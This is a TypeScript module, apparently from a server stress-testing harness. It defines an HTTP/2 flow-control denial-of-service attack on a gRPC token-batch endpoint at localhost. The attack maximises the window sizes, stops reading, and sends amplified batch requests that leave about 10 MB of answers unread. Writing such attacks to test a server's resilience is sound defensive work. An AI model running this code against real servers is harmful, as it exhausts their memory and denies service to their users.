import type { Attack } from "./attack.js";
import { FLAG, frame, headerBlock, number32, setting, TYPE } from "./frames.js";

const BATCH = "/securetoken.v1.TokenService/BatchValidateTokens";
const INITIAL_WINDOW_SIZE = 4;
const LARGEST_WINDOW = 2 ** 31 - 1;
const CALLS = 40;

/** 1,000 tokens of one character: 3 KB that are answered with a quarter of a megabyte. */
const TOKENS = Buffer.concat(Array.from({ length: 1_000 }, () => Buffer.from([0x0a, 1, 0x78])));
const MESSAGE = Buffer.concat([Buffer.alloc(1), number32(TOKENS.length), TOKENS]);
const HEADERS = headerBlock({
  ":method": "POST",
  ":scheme": "http",
  ":path": BATCH,
  ":authority": "localhost",
  "content-type": "application/grpc",
});

/** Windows as large as they can be, and 10 MB of batch answers that the client does not read. */
export const unreadBatches: Attack = {
  name: "batch answers never read",
  connections: 1,
  async run(connection) {
    const room = frame(TYPE.windowUpdate, 0, 0, number32(LARGEST_WINDOW - 65_535));
    await connection.begin(setting(INITIAL_WINDOW_SIZE, LARGEST_WINDOW), room);
    connection.stopReading();
    for (let stream = 1; stream < 2 * CALLS && connection.going; stream += 2) {
      const head = frame(TYPE.headers, FLAG.endHeaders, stream, HEADERS);
      const body = frame(TYPE.data, FLAG.endStream, stream, MESSAGE);
      await connection.write(Buffer.concat([head, body]), 2);
    }
    await connection.waitForEnd();
  },
};
